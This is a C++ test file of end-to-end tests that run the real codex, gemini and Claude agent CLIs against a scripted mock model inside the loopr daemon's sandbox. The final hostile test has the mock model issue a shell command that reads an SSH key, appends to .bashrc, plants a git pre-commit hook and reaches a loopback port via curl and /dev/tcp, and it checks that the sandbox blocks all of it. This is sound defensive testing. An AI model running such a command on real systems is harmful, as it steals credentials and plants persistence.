// Whole trees through a real daemon with the real agent CLIs (issue 46): the `codex` binary from
// @openai/codex against loopr-mock-llm's Responses API, and the `gemini` CLI from
// @google/gemini-cli against its Gemini API, each inside loopr's sandbox with its private
// configuration folder and its network only through loopr's proxy. The scripted model drives
// each CLI's own tools (codex: exec_command; gemini: write_file) to write the plan, the spec, the
// phase and the code. The CLIs are the pinned ones tools/install-deps.sh installs in
// tests/agent_clis; without them the tests skip and say so.
#include <gtest/gtest.h>

#include <filesystem>
#include <memory>
#include <nlohmann/json.hpp>
#include <set>
#include <string>
#include <thread>

#include "support/git_repo.hpp"
#include "support/listener.hpp"
#include "support/mock_llm.hpp"
#include "support/subprocess.hpp"
#include "support/temp_dir.hpp"
#include "support/tree_artifacts.hpp"

using namespace loopr::testing;
namespace fs = std::filesystem;

namespace {

const char* kPlan = kTreePlan;
const char* kSpec = kTreeSpec;
const char* kPhase = kTreePhase;

fs::path cli_path(const std::string& name) {
  return fs::path(LOOPR_SOURCE_DIR) / "tests/agent_clis/node_modules/.bin" / name;
}

/// The CLI a provider runs (its file name, and its folders' names: `.claude`, `.loopr/run/claude`).
std::string cli_name(const std::string& provider) {
  return provider == "claude-code" ? "claude" : provider;
}

/// The provider's settings key under `llm:`.
std::string settings_key(const std::string& provider) {
  return provider == "claude-code" ? "claude_code" : provider;
}

std::string model_of(const std::string& provider) {
  if (provider == "codex") return "gpt-9-codex";
  return provider == "gemini" ? "gemini-9-pro" : "claude-9-sonnet";
}

/// A JSON string as YAML reads it (double-quoted flow scalar).
std::string yaml_str(const std::string& text) { return nlohmann::json(text).dump(); }

/// The Responses API rules for codex: each artifact and the code file written by one
/// exec_command call, then "Done." once the command's output came back.
std::string codex_script() {
  auto writer = [](const char* type, const std::string& body) {
    return std::string("  - name: ") + type + "\n    match: {api: responses, loop_type: " + type +
           ", user: \"`(\\\\.loopr/" + type +
           "s/[^`]+)`\"}\n    reply:\n      text: \"Writing.\"\n"
           "      tool_use: {name: exec_command, input: {cmd: " +
           yaml_str("mkdir -p \"$(dirname '{{user.1}}')\" && cat > '{{user.1}}' <<'EOF'\n" + body +
                    "EOF") +
           "}}\n";
  };
  return "defaults:\n  model: gpt-9-codex\n  usage: {input_tokens: 3000, output_tokens: 200, "
         "cache_read_input_tokens: 1000}\nrules:\n"
         "  - name: finish\n    match: {api: responses, turn: 2}\n    reply: {text: \"Done.\"}\n" +
         writer("plan", kPlan) + writer("spec", kSpec) + writer("phase", kPhase) +
         "  - name: code\n    match: {api: responses, loop_type: code}\n    reply:\n"
         "      text: \"Writing the code.\"\n"
         "      tool_use: {name: exec_command, input: {cmd: \"mkdir -p code && printf 'made by "
         "%s\\\\n' {{loop_id}} > code/{{loop_id}}.txt\"}}\n";
}

/// The rules for a CLI whose file tool `tool` takes {file_path, content}, over `api`: each
/// artifact and the code file written by one call, then "Done." once its answer came back.
std::string file_tool_script(const std::string& api, const std::string& model,
                             const std::string& tool) {
  auto write = [&](const std::string& path, const std::string& body) {
    return "      tool_use: {name: " + tool + ", input: {file_path: " + yaml_str(path) +
           ", content: " + yaml_str(body) + "}}\n";
  };
  std::string rules;
  for (auto [type, body] : {std::pair{"plan", kPlan}, {"spec", kSpec}, {"phase", kPhase}})
    rules += std::string("  - name: ") + type + "\n    match: {api: " + api +
             ", loop_type: " + type + ", user: \"`(\\\\.loopr/" + type +
             "s/[^`]+)`\"}\n    reply:\n      text: \"Writing.\"\n" + write("{{user.1}}", body);
  return "defaults:\n  model: " + model +
         "\n  usage: {input_tokens: 3000, output_tokens: 200}\nrules:\n"
         "  - name: finish\n    match: {api: " +
         api + ", turn: 2}\n    reply: {text: \"Done.\"}\n" + rules +
         "  - name: code\n    match: {api: " + api +
         ", loop_type: code}\n    reply:\n"
         "      text: \"Writing the code.\"\n" +
         write("code/{{loop_id}}.txt", "made by {{loop_id}}\n");
}

/// The Gemini API rules for gemini: the CLI's write_file tool.
std::string gemini_script() { return file_tool_script("gemini", "gemini-9-pro", "write_file"); }

/// The Anthropic API rules for the real claude CLI: its Write tool.
std::string claude_script() { return file_tool_script("anthropic", "claude-9-sonnet", "Write"); }

class AgentCliE2eTest : public ::testing::Test {
 protected:
  TempDir base{"loopr-agent-e2e"};
  fs::path repo, home;
  std::unique_ptr<MockLlm> mock;
  std::string output;
  int exit_code = -1;
  std::string cli_settings;  ///< more of `llm.<cli>: {…}` (`, key: value`)

  void SetUp() override {
    fs::path root = fs::canonical(base.path());
    repo = root / "repo";
    home = root / "home";
    fs::create_directories(home);
    write_file(repo / "check.sh", "echo ok\n");
    write_file(repo / ".gitignore",
               ".loopr/state/\n.loopr/run/\n.loopr/worktrees/\n.loopr/archive/\n.loopr/logs/\n");
    auto init = git_init_commit_all(repo);
    ASSERT_EQ(init.exit_code, 0) << init.output;
  }

  void TearDown() override {
    if (fs::exists(repo / ".loopr/run/loopr.pid"))
      run_command("timeout 30 " + env() + shell_quote(LOOPR_BIN) + " -C " +
                  shell_quote(repo.string()) + " daemon stop >/dev/null 2>&1");
    if (HasFailure())
      std::cerr << "submit:\n"
                << output << "\ndaemon.log:\n"
                << run_command("tail -n 80 " +
                               shell_quote((repo / ".loopr/logs/daemon.log").string()))
                       .output
                << "\nmock-llm:\n"
                << (mock ? mock->output() : "") << "\n";
  }

  std::string env() const {
    return "env -i PATH=/usr/local/bin:/usr/bin:/bin LANG=C.UTF-8 HOME=" +
           shell_quote(home.string()) +
           " OPENAI_API_KEY=sk-e2e-openai GEMINI_API_KEY=AIza-e2e-gemini "
           "ANTHROPIC_API_KEY=sk-ant-e2e ";
  }

  void run_tree(const std::string& provider, const std::string& script, bool wait = true) {
    mock = std::make_unique<MockLlm>(script);
    write_file(repo / ".loopr/config.yml",
               "base_branch: main\nmerge: auto\nllm:\n  provider: " + provider +
                   "\n  base_url: " + mock->url() + "\n  " + settings_key(provider) +
                   ": {command: " + cli_path(cli_name(provider)).string() + cli_settings +
                   // claude-code takes its model from llm.model
                   (provider == "claude-code" ? "}\n  model: " + model_of(provider)
                                              : ", model: " + model_of(provider) + "}") +
                   "\n  max_retries: 2\n"
                   "pricing:\n  gpt-9-codex: {input: 1.25, output: 10, cache_write: 0, "
                   "cache_read: 0.125}\n  gemini-9-pro: {input: 1.25, output: 10, cache_write: 0, "
                   "cache_read: 0.3125}\n  claude-9-sonnet: {input: 3, output: 15, cache_write: "
                   "3.75, cache_read: 0.3}\n"
                   "limits:\n  no_progress_iterations: 3\n"
                   "loops:\n  plan: {max_iterations: 2, iteration_timeout: 3m}\n"
                   "  spec: {max_iterations: 2, iteration_timeout: 3m}\n"
                   "  phase: {max_iterations: 2, iteration_timeout: 3m}\n"
                   "  code: {max_iterations: 2, validation: \"sh check.sh\", "
                   "iteration_timeout: 3m}\n"
                   "sandbox:\n  limits: {processes: 512, memory: 4G}\n");
    run_command("git add .loopr/config.yml && git commit -q -m config", repo.string());
    auto r = run_command("timeout 900 " + env() + shell_quote(LOOPR_BIN) + " -C " +
                         shell_quote(repo.string()) + " submit " + (wait ? "--wait " : "") +
                         "--yes 'Write the file' 2>&1");
    output = r.output;
    exit_code = r.exit_code;
  }

  /// `loopr -C repo ARGS` under the test's environment: its stdout and stderr.
  std::string loopr(const std::string& args) const {
    return run_command("timeout 120 " + env() + shell_quote(LOOPR_BIN) + " -C " +
                       shell_quote(repo.string()) + " " + args + " 2>&1")
        .output;
  }

  /// The loop's row of `list --json` (empty when it is not there yet).
  nlohmann::json row(const std::string& id) const {
    auto j = nlohmann::json::parse(loopr("--json list"), nullptr, false);
    if (j.is_object() && j["loops"].is_array())
      for (const auto& l : j["loops"])
        if (l.value("id", "") == id) return l;
    return nlohmann::json::object();
  }

  std::string conversation(const std::string& loop) const {
    return read_file(repo / ".loopr/logs/loops" / loop / "iterations/001/conversation.jsonl");
  }

  void expect_tree_landed(const std::string& cli) {
    EXPECT_EQ(exit_code, 0) << output;
    EXPECT_EQ(run_command("git show main:code/code-001-001-001.txt", repo.string()).output,
              "made by code-001-001-001\n");
    // The plan the CLI wrote (its file name is loopr's) is the one that landed.
    std::string plan =
        run_command("git ls-tree -r --name-only main .loopr/plans", repo.string()).output;
    ASSERT_FALSE(plan.empty()) << "no plan on main";
    plan = plan.substr(0, plan.find('\n'));
    EXPECT_EQ(run_command("git show main:" + plan, repo.string()).output, kPlan) << plan;
    // Every loop ran the real CLI: its requests carry the loop's headers, through the proxy.
    auto requests = mock->requests();
    std::set<std::string> loops;
    for (const auto& r : requests)
      if (r["headers"].contains("x-loopr-loop-id"))
        loops.insert(r["headers"]["x-loopr-loop-id"].get<std::string>());
    for (const char* loop : {"001", "001-001", "001-001-001", "code-001-001-001"})
      EXPECT_TRUE(loops.count(loop)) << cli << " never asked the model for loop " << loop;
    // The transcript has the CLI's tool call and its answer.
    std::string conv = conversation("code-001-001-001");
    EXPECT_NE(conv.find("Done."), std::string::npos) << conv.substr(0, 3000);
    // The person's home got no configuration of the CLI; loopr's run folder did, for the
    // command's time only (its private folder went with it).
    EXPECT_FALSE(fs::exists(home / ("." + cli))) << "the CLI wrote into the person's home";
    EXPECT_FALSE(fs::exists(home / ("." + cli + ".json"))) << "the CLI wrote into the home";
    EXPECT_TRUE(fs::exists(repo / ".loopr/run" / cli));
    EXPECT_FALSE(fs::exists(repo / ".loopr/run" / cli / "001"));
  }
};

}  // namespace

TEST_F(AgentCliE2eTest, ATreeCompletesWithTheRealCodexCliAgainstTheResponsesApi) {
  if (!fs::exists(cli_path("codex")))
    GTEST_SKIP() << "the codex CLI is not installed (tools/install-deps.sh: tests/agent_clis)";
  run_tree("codex", codex_script());
  expect_tree_landed("codex");
  auto requests = mock->requests();
  ASSERT_FALSE(requests.empty());
  EXPECT_EQ(requests[0]["path"], "/v1/responses");
  EXPECT_EQ(requests[0]["body"]["store"], false);
  // The model asked for is the CLI's own (llm.codex.model), never llm.model's Claude default.
  for (const auto& r : requests) {
    if (r["path"] == "/v1/responses") {
      EXPECT_EQ(r["body"]["model"], "gpt-9-codex") << r.dump();
    }
  }
  // A code loop's cost is the price table's for codex's usage (the CLI reports none).
  auto show = run_command(env() + shell_quote(LOOPR_BIN) + " -C " + shell_quote(repo.string()) +
                          " show code-001-001-001 --json");
  auto j = nlohmann::json::parse(show.output, nullptr, false);
  ASSERT_FALSE(j.is_discarded()) << show.output;
  EXPECT_GT(j.value("cost_usd", 0.0), 0.0) << show.output;
}

TEST_F(AgentCliE2eTest, ATreeCompletesWithTheRealGeminiCliAgainstTheGeminiApi) {
  if (!fs::exists(cli_path("gemini")))
    GTEST_SKIP() << "the gemini CLI is not installed (tools/install-deps.sh: tests/agent_clis)";
  run_tree("gemini", gemini_script());
  expect_tree_landed("gemini");
  auto requests = mock->requests();
  ASSERT_FALSE(requests.empty());
  EXPECT_NE(requests[0]["path"].get<std::string>().find(":streamGenerateContent"),
            std::string::npos);
  // The model asked for is the CLI's own (llm.gemini.model), never llm.model's Claude default.
  // (The CLI may ask a small model of its own for housekeeping; the turns go to the one asked.)
  int asked = 0;
  for (const auto& r : requests) {
    const std::string path = r["path"].get<std::string>();
    asked += path.find("/models/gemini-9-pro:") != std::string::npos;
    EXPECT_EQ(path.find("claude"), std::string::npos) << path;
  }
  EXPECT_GT(asked, 0);
  // Gemini reports its model but no cost: loopr prices its usage from the table.
  auto show = run_command(env() + shell_quote(LOOPR_BIN) + " -C " + shell_quote(repo.string()) +
                          " show code-001-001-001 --json");
  auto j = nlohmann::json::parse(show.output, nullptr, false);
  ASSERT_FALSE(j.is_discarded()) << show.output;
  EXPECT_GT(j.value("cost_usd", 0.0), 0.0) << show.output;
}

// loopr's own tools through the real codex and gemini CLIs (issue 46 point 6): the scripted model
// calls share_note and ask_user as the CLI shows them (loopr's MCP server `loopr`, started by the
// CLI as `loopr mcp-serve` inside the sandbox), naming another loop in the call; the daemon records
// the note and the question for the calling loop; the answer reaches its next iteration.
namespace {

/// A reply (indented for `reply:`) that calls `tool` with `args` (a CLI that takes tool_use).
std::string tool_reply(const std::string& tool, const nlohmann::json& args) {
  return "      text: \"Calling " + tool + ".\"\n      tool_use: {name: " + tool +
         ", input: " + args.dump() + "}\n";
}

/// The code loop's rules for a CLI whose MCP tools the model calls as `note`/`ask`, whose
/// file-writing tool call is `write`, for `api`. Iteration 1: share a note (naming loop 001 as
/// its target), ask, end. Iteration 2 (the answer in its prompt): write the answer, end.
std::string mcp_code_rules(const std::string& api, const std::string& note, const std::string& ask,
                           const std::string& write) {
  // `note` and `ask` are the replies' YAML (a tool_use, or raw items), indented for `reply:`.
  const std::string answered = "user: \"The user answered:\\\\s+(GREETING-\\\\w+)\"";
  return "  - name: code-answered-write\n    match: {api: " + api + ", loop_type: code, turn: 1, " +
         answered + "}\n    reply:\n      text: \"Writing the answer.\"\n      tool_use: " + write +
         "\n  - name: code-answered-done\n    match: {api: " + api +
         ", loop_type: code, turn: 2, " + answered +
         "}\n    reply: {text: \"Done.\"}\n"
         "  - name: code-note\n    match: {api: " +
         api + ", loop_type: code, turn: 1}\n    reply:\n" + note +
         "  - name: code-ask\n    match: {api: " + api +
         ", loop_type: code, turn: 2}\n    reply:\n" + ask +
         "  - name: code-asked\n    match: {api: " + api +
         ", loop_type: code, turn: 3}\n    reply: {text: \"Asked.\"}\n";
}

}  // namespace

class AgentCliMcpE2eTest : public AgentCliE2eTest {
 protected:
  /// Runs the tree with `script` (the code rules first), answers the question, checks the rest.
  void run_and_check(const std::string& cli, const std::string& script) {
    // The code loop passes only with the answer's file (a passing iteration would complete the
    // loop whatever it asked); the base branch (no phases yet) passes as it is.
    write_file(repo / "check.sh", "if [ -d .loopr/phases ]; then test -f code/answer.txt; fi\n");
    run_command("git commit -qam 'check needs the answer'", repo.string());
    run_tree(cli, script, false);
    ASSERT_EQ(exit_code, 0) << output;
    const std::string code = "code-001-001-001";
    nlohmann::json seen;
    bool asked = wait_until(
        [&] {
          std::this_thread::sleep_for(std::chrono::milliseconds(200));  // polls the CLI gently
          // Without --wait, --yes does not pass the gate: the plan is approved here.
          if (row("001").value("status", "") == "awaiting_approval") loopr("approve 001");
          seen = row(code);
          return seen.is_object() && seen.value("status", "") == "awaiting_answer";
        },
        std::chrono::seconds(600));
    ASSERT_TRUE(asked) << "the code loop never waited for an answer: " << seen.dump() << "\n"
                       << loopr("logs " + code);
    EXPECT_EQ(seen["question"], "Which greeting?") << seen.dump();
    // The note is the code loop's, whatever loop its call named.
    std::string logs = loopr("--json logs " + code);
    EXPECT_NE(logs.find("note_shared"), std::string::npos) << logs;
    EXPECT_NE(logs.find("NOTE-FROM-CLI: the port is 8080"), std::string::npos) << logs;
    // The tree's events (`logs 001` holds them all): the one note is the code loop's.
    auto tree = nlohmann::json::parse(loopr("--json logs 001"), nullptr, false);
    int notes = 0;
    if (tree.is_object() && tree["events"].is_array())
      for (const auto& e : tree["events"])
        if (e.value("type", "") == "note_shared") {
          ++notes;
          EXPECT_EQ(e.value("loop_id", ""), code) << e.dump();
        }
    EXPECT_EQ(notes, 1) << tree.dump().substr(0, 4000);
    // The answer goes to the next iteration, which writes it; the tree lands.
    std::string answered = loopr("answer " + code + " GREETING-HELLO");
    bool landed = wait_until(
        [&] {
          std::this_thread::sleep_for(std::chrono::milliseconds(200));
          return run_command("git show main:code/answer.txt", repo.string()).output ==
                 "GREETING-HELLO\n";
        },
        std::chrono::seconds(600));
    EXPECT_TRUE(landed) << answered << "\n" << loopr("list") << loopr("logs " + code);
    // The private folder (with the channel's socket) went with each command.
    EXPECT_FALSE(fs::exists(repo / ".loopr/run" / cli_name(cli) / code));
  }
};

// proves S2.3
TEST_F(AgentCliMcpE2eTest, TheRealCodexCliReachesShareNoteAndAskUserThroughLooprsMcpServer) {
  if (!fs::exists(cli_path("codex")))
    GTEST_SKIP() << "the codex CLI is not installed (tools/install-deps.sh: tests/agent_clis)";
  std::string write =
      "{name: exec_command, input: {cmd: \"mkdir -p code && printf '%s\\\\n' {{user.1}} > "
      "code/answer.txt\"}}";
  // Codex shows an MCP server's tools as a Responses API namespace (`mcp__loopr`), so the model
  // calls them as function calls in that namespace: raw items, as the API sends them.
  auto call = [](const std::string& id, const std::string& tool, const nlohmann::json& args) {
    return "      blocks:\n        - {text: \"Calling " + tool +
           ".\"}\n"
           "        - {raw: {type: function_call, id: fc_" +
           id + ", call_id: call_" + id + ", namespace: mcp__loopr, name: " + tool +
           ", arguments: " + yaml_str(args.dump()) + ", status: completed}}\n";
  };
  std::string script = codex_script();
  script.insert(
      script.find("rules:\n") + 7,
      mcp_code_rules("responses",
                     call("note", "share_note",
                          {{"text", "NOTE-FROM-CLI: the port is 8080"}, {"loop_id", "001"}}),
                     call("ask", "ask_user", {{"question", "Which greeting?"}}), write));
  run_and_check("codex", script);
}

// proves S2.3
// Gemini's headless mode drops every tool named `ask_user` (an MCP server's too), so loopr's is
// shown as `ask_person` there; the CLI names an MCP tool `mcp_<server>_<tool>`.
TEST_F(AgentCliMcpE2eTest, TheRealGeminiCliReachesShareNoteAndAskUserThroughLooprsMcpServer) {
  if (!fs::exists(cli_path("gemini")))
    GTEST_SKIP() << "the gemini CLI is not installed (tools/install-deps.sh: tests/agent_clis)";
  std::string script = gemini_script();
  script.insert(
      script.find("rules:\n") + 7,
      mcp_code_rules(
          "gemini",
          // No `loop_id` here: gemini checks a call against the tool's
          // schema (no other property) and refuses it before it reaches
          // loopr; codex's test sends one through.
          tool_reply("mcp_loopr_share_note", {{"text", "NOTE-FROM-CLI: the port is 8080"}}),
          tool_reply("mcp_loopr_ask_person", {{"question", "Which greeting?"}}),
          "{name: write_file, input: {file_path: code/answer.txt, content: "
          "\"{{user.1}}\\n\"}}"));
  run_and_check("gemini", script);
  // What the CLI listed to the model: both of loopr's tools, under the names it calls.
  std::string listed;
  for (const auto& r : mock->requests()) listed += r["body"].dump();
  EXPECT_NE(listed.find("mcp_loopr_share_note"), std::string::npos);
  EXPECT_NE(listed.find("mcp_loopr_ask_person"), std::string::npos);
}

TEST_F(AgentCliE2eTest, ATreeCompletesWithTheRealClaudeCliAgainstTheMessagesApi) {
  if (!fs::exists(cli_path("claude")))
    GTEST_SKIP() << "the claude CLI is not installed (tools/install-deps.sh: tests/agent_clis)";
  run_tree("claude-code", claude_script());
  expect_tree_landed("claude");
  auto requests = mock->requests();
  ASSERT_FALSE(requests.empty());
  int asked = 0;
  for (const auto& r : requests)
    if (r["path"].get<std::string>().rfind("/v1/messages", 0) == 0)  // `?beta=true` follows
      asked += r["body"].value("model", "") == "claude-9-sonnet";
  EXPECT_GT(asked, 0);
  // Claude Code reports its own cost: the receipt is the CLI's.
  auto j = nlohmann::json::parse(loopr("show code-001-001-001 --json"), nullptr, false);
  ASSERT_TRUE(j.is_object());
  EXPECT_TRUE(j.contains("cost_usd")) << j.dump();
}

// proves S2.3
TEST_F(AgentCliMcpE2eTest, TheRealClaudeCliReachesShareNoteAndAskUserThroughLooprsMcpServer) {
  if (!fs::exists(cli_path("claude")))
    GTEST_SKIP() << "the claude CLI is not installed (tools/install-deps.sh: tests/agent_clis)";
  std::string script = claude_script();
  script.insert(
      script.find("rules:\n") + 7,
      mcp_code_rules("anthropic",
                     tool_reply("mcp__loopr__share_note",
                                {{"text", "NOTE-FROM-CLI: the port is 8080"}, {"loop_id", "001"}}),
                     tool_reply("mcp__loopr__ask_user", {{"question", "Which greeting?"}}),
                     "{name: Write, input: {file_path: code/answer.txt, content: "
                     "\"{{user.1}}\\n\"}}"));
  run_and_check("claude-code", script);
}

// The hostile model drives each real CLI (issue 46 point 5): in the code loop it has the CLI's
// own tools read the person's SSH key, write into the person's home (their shell start-up file
// and the CLI's configuration folder), plant a git hook in the repository and reach a server on
// the host's loopback. The CLI runs inside loopr's sandbox, so none of it lands: checked from
// outside, and the key is in nothing the model was sent.
class AgentCliHostileE2eTest : public AgentCliE2eTest,
                               public ::testing::WithParamInterface<std::string> {};

namespace {

constexpr const char* kE2eSshMarker = "SECRET-SSH-E2E-7c1d";

/// Every regular file under `dir` with its bytes, for a before/after comparison.
std::map<std::string, std::string> snapshot(const fs::path& dir) {
  std::map<std::string, std::string> out;
  for (auto it = fs::recursive_directory_iterator(dir); it != fs::recursive_directory_iterator();
       ++it)
    out[fs::relative(it->path(), dir).string()] =
        it->is_regular_file() ? read_file(it->path())
                              : std::string("<") + (it->is_directory() ? "dir" : "other") + ">";
  return out;
}

}  // namespace

// proves S1.20 S1.21 S1.23
TEST_P(AgentCliHostileE2eTest, AHostileModelDrivingTheRealCliReachesNothingOfThePersons) {
  const std::string provider = GetParam();
  const std::string cli = cli_name(provider);
  if (!fs::exists(cli_path(cli)))
    GTEST_SKIP() << "the " << cli
                 << " CLI is not installed (tools/install-deps.sh: tests/agent_clis)";
  write_file(home / ".ssh/id_ed25519", std::string("-----BEGIN KEY-----\n") + kE2eSshMarker + "\n");
  write_file(home / ".bashrc", "export PS1='$ '\n");
  auto before = snapshot(home);
  auto hooks_before = snapshot(repo / ".git/hooks");
  Listener host;
  const std::string h = home.string();
  const std::string attack =
      "cat " + h + "/.ssh/id_ed25519 ~/.ssh/id_ed25519; echo pwned >> " + h +
      "/.bashrc; mkdir -p " + h + "/." + cli + " && echo pwned > " + h + "/." + cli +
      "/settings.json; printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > " +
      (repo / ".git/hooks").string() +
      "/pre-commit; curl -s -m 3 http://127.0.0.1:" + std::to_string(host.port()) +
      "/ || (exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(host.port()) + "); echo attacked";
  std::string api, tool_use;
  if (provider == "codex") {
    api = "responses";
    tool_use = "{name: exec_command, input: {cmd: " + yaml_str(attack) + "}}";
  } else if (provider == "gemini") {
    api = "gemini";
    tool_use = "{name: run_shell_command, input: {command: " + yaml_str(attack) + "}}";
  } else {
    api = "anthropic";
    // The person let Claude Code run anything (`skip_permissions`): loopr's sandbox still holds.
    cli_settings = ", skip_permissions: true";
    tool_use = "[{name: Bash, input: {command: " + yaml_str(attack) +
               "}}, {name: Write, input: " + "{file_path: " + yaml_str(h + "/.bashrc") +
               ", content: pwned}}]";
  }
  std::string script = provider == "codex"    ? codex_script()
                       : provider == "gemini" ? gemini_script()
                                              : claude_script();
  script.insert(script.find("rules:\n") + 7,
                "  - name: code-attack\n    match: {api: " + api +
                    ", loop_type: code, turn: 1}\n    reply:\n      text: \"Looking around.\"\n"
                    "      tool_use: " +
                    tool_use + "\n");
  run_tree(provider, script);
  EXPECT_EQ(exit_code, 0) << output;
  // The attack ran (the model got its command's answer back), and changed nothing outside.
  bool ran = false;
  for (const auto& r : mock->requests()) {
    const std::string body = r["body"].dump();
    EXPECT_EQ(body.find(kE2eSshMarker), std::string::npos) << "the person's key reached the model";
    // The command's output (its last line), as the CLI sent it back to the model.
    ran = ran || body.find("\\nattacked") != std::string::npos;
  }
  EXPECT_TRUE(ran) << "the CLI did not run the hostile command: the test proves nothing";
  EXPECT_EQ(snapshot(home), before) << "the person's home changed";
  EXPECT_EQ(snapshot(repo / ".git/hooks"), hooks_before) << "a hook was planted";
  EXPECT_EQ(host.accepted(), 0) << "the CLI reached the host's loopback";
  EXPECT_FALSE(fs::exists("/tmp/pwned"));
}

INSTANTIATE_TEST_SUITE_P(ClaudeCodexGemini, AgentCliHostileE2eTest,
                         ::testing::Values("claude-code", "codex", "gemini"), [](const auto& info) {
                           return info.param == "claude-code" ? std::string("claude") : info.param;
                         });
